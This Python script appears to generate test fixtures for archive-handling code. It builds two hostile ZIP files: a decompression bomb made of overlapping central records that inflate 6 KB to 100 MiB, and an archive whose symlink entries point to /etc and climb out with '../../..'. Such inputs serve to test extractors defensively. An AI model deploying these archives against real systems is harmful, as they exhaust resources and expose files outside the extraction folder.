#!/usr/bin/env python3
"""Makes the hostile ZIP inputs kept next to this script; run it from anywhere.

zip-overlapping-records.zip  100 central records that all point at one local record holding a
                             megabyte of zeros: 6 KB that would unpack to 100 MiB.
zip-with-links.zip           two link entries (one to /etc, one climbing out) between regular
                             files and a folder.
"""
import os
import struct
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))


def overlapping_records(path):
    data = bytes(1 << 20)
    packed = zlib.compress(data, 9)[2:-4]  # raw deflate, without the zlib wrapper
    crc = zlib.crc32(data)
    name = b"zeros.bin"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21,
                        crc, len(packed), len(data), len(name), 0) + name + packed
    central = b""
    count = 100
    for index in range(count):
        entry = b"%03d" % index
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, 0, 8, 0, 0x21,
                               crc, len(packed), len(data), len(entry), 0, 0, 0, 0,
                               0o100644 << 16, 0) + entry
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(local), 0)
    with open(path, "wb") as out:
        out.write(local + central + end)


def with_links(path):
    def link(name, target):
        info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
        info.create_system = 3
        info.external_attr = (0o120777 << 16)
        return info, target

    def regular(name, text):
        info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
        info.create_system = 3
        info.external_attr = (0o100644 << 16)
        return info, text

    folder = zipfile.ZipInfo("Tree/", date_time=(2020, 1, 1, 0, 0, 0))
    folder.create_system = 3
    folder.external_attr = (0o40755 << 16) | 0x10
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(folder, b"")
        for info, contents in (regular("Tree/readme.txt", "read me first"),
                               link("Tree/etc", "/etc"),
                               link("Tree/up", "../../.."),
                               regular("Tree/after.txt", "written after the links")):
            archive.writestr(info, contents)


if __name__ == "__main__":
    overlapping_records(os.path.join(HERE, "zip-overlapping-records.zip"))
    with_links(os.path.join(HERE, "zip-with-links.zip"))
